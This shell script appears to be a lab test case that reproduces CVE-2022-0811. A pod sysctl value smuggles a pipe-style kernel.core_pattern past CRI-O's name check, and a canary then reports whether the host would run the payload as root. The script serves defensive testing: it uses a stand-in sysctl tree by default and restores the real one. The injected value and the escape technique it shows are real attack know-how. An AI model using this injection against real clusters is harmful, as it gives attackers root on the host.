#!/bin/sh
# CVE-2022-0811: a pod sysctl value smuggles kernel.core_pattern past CRI-O's name check.
# busybox sh; see README.md. Settings: sysctl-value-check.
. "$BW_LAB/common/lib.sh"
set -u
ID=crio-sysctl-injection-core-pattern
W=$BW_WORK
ROOTFS=$W/rootfs
CANARY=$W/canary
# The mapped root of a user-namespaced pod must be able to reach its files.
chmod 755 "$W" || exit 125
mkdir -p "$CANARY" || exit 125
bw_make_rootfs "$ROOTFS" "$BW_BIN/$ID.attack" || exit 125

# Where pinns writes. Default: a stand-in tree under $BW_WORK with the two sysctls involved, so
# nothing of this host changes. The lab's disposable VM may point it at the real /proc/sys.
SYSCTL_ROOT=${BW_SYSCTL_ROOT:-$W/procsys}
export BW_SYSCTL_ROOT=$SYSCTL_ROOT
REAL_SAVED=
if [ "$SYSCTL_ROOT" = "$W/procsys" ]; then
  mkdir -p "$SYSCTL_ROOT/kernel" || exit 125
  echo 0 >"$SYSCTL_ROOT/kernel/shm_rmid_forced" || exit 125
  echo core >"$SYSCTL_ROOT/kernel/core_pattern" || exit 125
  chmod 644 "$SYSCTL_ROOT/kernel/shm_rmid_forced" "$SYSCTL_ROOT/kernel/core_pattern"
  # Ownership as the kernel has it: IPC sysctls belong to the root of the IPC namespace's user
  # namespace (the pod's mapped root), core_pattern to the host's root.
  if [ "${BW_USERNS:-}" = 1 ]; then
    chown "${BW_USERNS_BASE:-100000}:${BW_USERNS_BASE:-100000}" "$SYSCTL_ROOT/kernel/shm_rmid_forced" || exit 125
    chmod 755 "$SYSCTL_ROOT" "$SYSCTL_ROOT/kernel"
  fi
else
  # The real kernel (VM only): remember the pattern to put it back afterwards.
  REAL_SAVED=$(cat "$SYSCTL_ROOT/kernel/core_pattern") || exit 125
fi

# The pod spec, as the attacker writes it: an allowed, namespaced sysctl whose VALUE carries a
# second key=value for pinns. The payload's host path is the container's root on the host (the
# real attack read it from the overlay upperdir in /proc/self/mountinfo). The trailing " #" is the
# published exploit's: pinns leaves the closing quote of CRI-O's 'k=v' on the injected value, and
# this turns it into an ignored argument of the payload.
PATTERN="|$ROOTFS/payload #"
VALUE_CHECK=
bw_setting sysctl-value-check && VALUE_CHECK=--value-check
bw_confined "${BW_MGMT_PROFILE:-}" timeout 15 "$BW_BIN/$ID.manager" $VALUE_CHECK \
  --sysctl kernel.shm_rmid_forced "1+kernel.core_pattern=$PATTERN" \
  "$ROOTFS" /attack /payload "$CANARY/marker"
rc=$?

# Host side. core_pattern now decides what the kernel runs on the next crash. A pipe pattern
# ("|prog") would make the kernel run prog as root in the host's namespaces; here the kernel step
# is simulated: when the pattern names a program, the marker is written as "it would have run".
# (With the real /proc/sys in the VM the kernel really ran it on the container's crash.)
NOW=$(cat "$SYSCTL_ROOT/kernel/core_pattern" 2>/dev/null)
if [ -n "$REAL_SAVED" ]; then
  # Leave the VM's kernel as it was (a pattern with spaces is written back whole).
  printf '%s\n' "$REAL_SAVED" >"$SYSCTL_ROOT/kernel/core_pattern" || echo "could not restore core_pattern" >&2
fi
if [ "$rc" = 125 ]; then
  echo "$ID: the manager could not run the scenario (exit 125)" >&2
  exit 1
fi
case "$NOW" in
  "|"*)
    PROG=${NOW#|}
    PROG=${PROG%% *}
    if [ ! -e "$CANARY/marker" ]; then
      echo "simulated: kernel ran $PROG as host root on the container's crash" >"$CANARY/marker"
    fi
    bw_canary reached "kernel.core_pattern is '$NOW': the kernel runs $PROG as host root on any crash"
    ;;
  *)
    bw_canary safe "kernel.core_pattern is '$NOW' (not the attacker's pipe)"
    ;;
esac
exit 0
